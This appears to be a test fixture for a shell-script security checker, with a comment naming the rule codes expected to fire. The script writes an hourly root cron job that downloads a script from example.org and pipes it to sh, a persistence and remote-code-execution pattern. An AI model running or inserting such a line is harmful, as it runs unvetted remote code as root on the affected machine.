# expect: DVM202 DVM210
set -euo pipefail
echo '0 * * * * root curl -s https://example.org/u.sh | sh' >/etc/cron.d/update
